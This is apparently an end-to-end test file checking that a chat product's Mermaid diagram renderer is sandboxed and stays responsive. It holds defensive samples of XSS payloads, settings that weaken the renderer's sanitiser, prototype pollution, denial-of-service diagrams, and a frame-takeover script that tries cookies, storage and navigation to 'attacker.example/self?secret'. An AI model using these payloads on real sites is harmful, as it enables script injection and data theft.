import { skipBecause, textReply, whyNoPrograms } from '@postern/testing';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { ask } from '../product/walk-first-run.ts';
import { goTo, pickModel, signedInPage, type SignedInPage } from './signed-in-page.ts';

const SCRIPTS = [
  '<img src=x onerror=parent.ran=ran=1>',
  '<script>parent.ran=ran=1</script>',
  '<svg onload=ran=1><animate onbegin=ran=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>top.ran=1</script>">',
  '<foreignObject><body onload=ran=1>',
  '<a href="javascript:ran=1">a</a>',
  '<style>@import url(//attacker.example/i);*{background:url(//attacker.example/b)}</style>',
  '<link rel=stylesheet href=//attacker.example/s><link rel=dns-prefetch href=//attacker.example>',
  '<meta http-equiv=refresh content="0;url=//attacker.example/m">',
  '<form action=//attacker.example/f><input type=image src=//attacker.example/n>',
  '<object data=//attacker.example/o></object><embed src=//attacker.example/e>',
  '<image href=https://attacker.example/i xlink:href=https://attacker.example/j>',
];

/** Each tries to run something, to request something, or to weaken the renderer's settings. */
const HOSTILE: readonly (readonly [string, ...(readonly string[])])[] = [
  ...SCRIPTS.map((script): [string, ...string[]] => {
    const quoted = script.replaceAll('"', '&quot;');
    return [
      script,
      `flowchart LR\n  A["${quoted}"] -->|"${quoted}"| B`,
      `sequenceDiagram\n  A->>B: ${script}\n  Note over A: ${script}`,
      `---\ntitle: '${script.replaceAll("'", '')}'\n---\npie\n  "a" : 1`,
    ];
  }),
  ['a click that calls', 'flowchart LR\n  A-->B\n  click A call ran()\n  click B callback "x"'],
  ['a click that opens', 'flowchart LR\n  A-->B\n  click A "https://attacker.example/" _top'],
  ['a click with a script', 'flowchart LR\n  A\n  click A href "javascript:top.ran=1" _self'],
  [
    'settings in a directive',
    `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true},
 "secure": [], "themeCSS": "*{background:url(https://attacker.example/t)}", "dompurifyConfig":
 {"ADD_TAGS": ["script"], "ADD_ATTR": ["onerror"]}}}%%
flowchart LR
  A["<img src=x onerror=ran=1>"]`,
  ],
  [
    'settings in its head',
    `---
config:
  securityLevel: loose
  htmlLabels: true
  fontFamily: 'x;} @import url(https://attacker.example/f); a{'
  themeVariables:
    primaryColor: 'red;background:url(https://attacker.example/v)'
---
flowchart LR
  A["<img src=https://attacker.example/g>"]`,
  ],
  ['settings with a prototype', '%%{init: {"__proto__": {"ran": 1}}}%%\nflowchart LR\n  A'],
  [
    'styles',
    'flowchart LR\n  A-->B\n  style A fill:url(https://attacker.example/a)\n  classDef x background:url(https://attacker.example/c)\n  class B x',
  ],
  ['a picture', 'flowchart LR\n  A@{ img: "https://attacker.example/p.png", label: "x" }'],
  ['an icon', 'flowchart LR\n  A@{ icon: "fa:window", form: "square", label: "x" }'],
  ['links of people', 'sequenceDiagram\n  participant A\n  link A: x @ https://attacker.example/l'],
  [
    'links of classes',
    'classDiagram\n  class A\n  link A "https://attacker.example/k"\n  click A call ran()',
  ],
  ['a gantt chart that calls', 'gantt\n  section a\n  b :c, 2026-01-01, 1d\n  click c call ran()'],
];

const many = (count: number, line: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => line(at)).join('\n');

/** Each would take the renderer very long, or forever. */
const HUGE: readonly (readonly [string, string])[] = [
  ['edges', `flowchart LR\n${many(3000, (at) => `  n${String(at % 60)} --> n${String(at % 59)}`)}`],
  ['text', `flowchart LR\n  A["${'x'.repeat(60_000)}"]`],
  [
    'nesting',
    `flowchart LR\n${many(300, (at) => `subgraph s${String(at)}`)}\nA\n${many(300, () => 'end')}`,
  ],
  [
    'a long time',
    `gantt\n  dateFormat YYYY-MM-DD\n  tickInterval 1millisecond\n  a :2000-01-01, 9000d`,
  ],
  ['nodes', `mindmap\n  root\n${many(1500, (at) => `    node ${String(at)}`)}`],
  [
    'excluded days',
    `gantt\n  excludes monday,tuesday,wednesday,thursday,friday,saturday,sunday\n  a :2026-01-01, 5d`,
  ],
];

const FINISHED = 'figure.diagram[data-shows=diagram], figure.diagram:has(.diagram-failure)';

const why = whyNoPrograms(['chromium']);

describe.skipIf(skipBecause('diagrams in Chromium', why))('a diagram', () => {
  let product: SignedInPage;
  let page: Page;
  let before = 0;
  const blocked = new Set<string>();

  beforeAll(async () => {
    product = await signedInPage({ reducedMotion: true });
    ({ page } = product);
    page.on('requestfailed', (request) => {
      if (request.failure()?.errorText === 'csp') blocked.add(request.url());
    });
  });

  beforeEach(() => {
    before = product.browser.complaints().length;
  });

  afterAll(async () => {
    await product[Symbol.asyncDispose]();
  });

  const figures = () => page.locator('figure.diagram');
  const finished = () => page.locator(FINISHED);
  const show = async (...sources: readonly string[]): Promise<void> => {
    await goTo(page, '#/');
    await pickModel(page, 'gpt-fake-large');
    product.upstream.next(
      textReply(sources.map((text) => `~~~mermaid\n${text}\n~~~`).join('\n\n')),
    );
    await ask(page, 'Draw it.');
    await expect.poll(async () => await figures().count()).toBe(sources.length);
  };
  const frames = (): readonly Frame[] =>
    page.frames().filter((frame) => frame !== page.mainFrame());
  /** What happened since the test began, but for what a policy blocked before it was sent. */
  const complaints = () =>
    product.browser
      .complaints()
      .slice(before)
      .filter(({ kind, text }) => {
        if (kind === 'foreign-request') return !blocked.has(text);
        return kind !== 'policy-violation' && !text.includes('Content Security Policy');
      });

  test('is drawn in a frame with an origin of its own, and shows its code', async () => {
    await show('flowchart LR\n  A[Start] --> B[End]');
    await finished().waitFor();
    const frame = page.locator('iframe');
    expect(await frame.getAttribute('sandbox')).toBe('allow-scripts');
    const [inner] = frames();
    expect(await inner?.evaluate('origin')).toBe('null');
    expect(await inner?.locator('svg').first().textContent()).toContain('Start');
    expect(await page.locator('svg', { hasText: 'Start' }).count()).toBe(0);
    const pre = figures().locator('pre');
    expect((await pre.boundingBox())?.height).toBeLessThan(5);
    await page.getByRole('button', { name: 'Show code' }).click();
    expect((await pre.boundingBox())?.height).toBeGreaterThan(30);
    await page.getByRole('button', { name: 'Show diagram' }).click();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download picture' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('diagram.png');
    await page.getByRole('button', { name: 'Enlarge' }).click();
    await page.getByRole('dialog', { name: 'Diagram' }).locator('iframe').waitFor();
    await page.keyboard.press('Escape');
    expect(complaints().filter(({ kind }) => kind !== 'download')).toEqual([]);
  });

  test('is code while the answer is written', async () => {
    await goTo(page, '#/');
    await pickModel(page, 'gpt-fake-large');
    const text = `~~~mermaid\nflowchart LR\n  A --> B\n~~~\n\n${'word '.repeat(400)}`;
    product.upstream.next(textReply(text, { deltaDelayMs: 10 }));
    await page.getByLabel('Message', { exact: true }).fill('Draw it.');
    await page.keyboard.press('Enter');
    await page.getByRole('figure', { name: 'Mermaid code' }).waitFor();
    await page.locator('.md[data-growing] > p').waitFor();
    expect(await page.locator('iframe').count()).toBe(0);
    await finished().waitFor();
    expect(await page.locator('.md[data-growing]').count()).toBe(0);
  });

  test('says why it can’t be drawn, with the code', async () => {
    await show('flowchart LR\n  A[Start --> B{{{');
    await page.locator('.diagram-failure').waitFor();
    expect(await page.locator('.diagram-failure').innerText()).toContain('Parse error on line 2');
    expect(await figures().locator('> pre').innerText()).toContain('A[Start --> B{{{');
    expect(await page.locator('iframe').count()).toBe(0);
  });

  test.each(HOSTILE)('runs and requests nothing: %s', async (_name, ...sources) => {
    await show(...sources);
    await expect.poll(async () => await finished().count()).toBe(sources.length);
    expect(await page.evaluate('window.ran')).toBeUndefined();
    for (const frame of frames()) {
      expect(await frame.evaluate('window.ran')).toBeUndefined();
      expect(
        await frame.locator('foreignObject, script ~ script, iframe, object, embed, form').count(),
      ).toBe(0);
      expect(await frame.locator('a[href], a[*|href]').count()).toBe(0);
    }
    expect(complaints()).toEqual([]);
    expect(product.browser.context.pages()).toHaveLength(1);
    expect(page.url()).toContain(product.postern.pageAddress);
  });

  test.each(HUGE)('leaves the page responsive: many %s', async (_name, source) => {
    await show(source);
    const [slowest, took] = await page.evaluate<
      readonly [number, number]
    >(`new Promise((resolve) => {
      let slowest = 0;
      const start = performance.now();
      let last = start;
      const frame = (now) => {
        slowest = Math.max(slowest, now - last);
        last = now;
        if (document.querySelector('${FINISHED}') === null) requestAnimationFrame(frame);
        else resolve([slowest, now - start]);
      };
      requestAnimationFrame(frame);
    })`);
    // Drawn in the page's own process, it would be one frame that takes all of the time.
    expect(slowest).toBeLessThan(1000 + took / 2);
    expect(complaints()).toEqual([]);
  });

  test('that hangs is removed, and can be drawn again', async () => {
    await page.route('**/diagram.html', async (route) => {
      const answer = await route.fetch();
      await route.fulfill({
        response: answer,
        headers: {
          ...answer.headers(),
          'content-security-policy': "sandbox allow-scripts; default-src 'unsafe-inline'",
        },
        body: '<script>parent.postMessage({ kind: "ready" }, "*"); addEventListener("message", () => { for (;;); })</script>',
      });
    });
    await show('flowchart LR\n  A');
    await page.locator('.diagram-failure').waitFor();
    expect(await page.locator('iframe').count()).toBe(0);
    await page.unroute('**/diagram.html');
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.locator('figure.diagram[data-shows=diagram]').waitFor();
  });

  test('whose frame is taken over can neither leave nor reach the page', async () => {
    await show('flowchart LR\n  A');
    await finished().waitFor();
    const tried = await frames()[0]?.evaluate<readonly string[]>(`(async () => {
      const attempts = {
        dom: () => parent.document.body,
        storage: () => localStorage.length,
        cookie: () => document.cookie,
        fetch: () => fetch('/api/session'),
        picture: () => new Promise((done, fail) => {
          const image = new Image();
          image.onload = done;
          image.onerror = fail;
          image.src = '/postern.svg';
        }),
        script: () => new Promise((done, fail) => {
          const script = document.createElement('script');
          script.onload = done;
          script.onerror = fail;
          script.src = '/assets/x.js';
          document.body.append(script);
        }),
        code: () => eval('1'),
        worker: () => new Promise((done, fail) => {
          const worker = new Worker('data:text/javascript,postMessage(1)');
          worker.onmessage = done;
          worker.onerror = fail;
        }),
        socket: () => new Promise((done, fail) => {
          const socket = new WebSocket('ws://' + location.host + '/');
          socket.onopen = done;
          socket.onerror = fail;
        }),
        top: () => { top.location = 'https://attacker.example/top'; },
        popup: () => { if (open('https://attacker.example/popup') === null) throw new Error(); },
      };
      const succeeded = [];
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt();
          succeeded.push(name);
        } catch {}
      }
      parent.postMessage({ kind: 'drawn', width: 9999, height: 1 }, '*');
      return succeeded;
    })()`);
    expect(tried).toEqual([]);
    await frames()[0]?.evaluate(
      `setTimeout(() => { location.href = 'https://attacker.example/self?secret'; })`,
    );
    await expect.poll(() => frames()[0]?.url()).not.toContain('/diagram.html');
    const box = await page.locator('.diagram-drawing').boundingBox();
    expect(box?.height).toBeGreaterThan(30);
    // The browser's console says what it blocked.
    expect(complaints().filter(({ kind }) => kind !== 'console-error')).toEqual([]);
    expect(page.url()).toContain(product.postern.pageAddress);
  });
});
